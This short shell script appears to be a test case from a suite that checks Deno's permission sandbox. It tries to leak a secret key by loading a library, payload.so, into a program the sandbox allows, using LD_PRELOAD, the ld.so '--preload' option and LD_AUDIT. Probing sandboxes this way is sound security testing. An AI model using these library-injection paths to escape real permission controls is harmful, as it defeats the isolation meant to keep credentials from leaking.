#!/bin/sh
# Loads its own library into a program that is granted, which then reads the key; also by ld.so itself,
# and by an environment given to the child.
# class: Deno: allow-run plus LD_PRELOAD
# plain: leak
# flags: --run cat --run env --run /lib64/ld-linux-x86-64.so.2
# journal: read {KEY}

for fact; do case $fact in KEY=*) LOOT=${fact#KEY=} ;; esac; done
echo tried
export LOOT
LD_PRELOAD=$PWD/payload.so cat allowed.txt
env LD_PRELOAD="$PWD/payload.so" cat allowed.txt
/lib64/ld-linux-x86-64.so.2 --preload "$PWD/payload.so" /bin/cat allowed.txt
LD_AUDIT=$PWD/payload.so cat allowed.txt
true
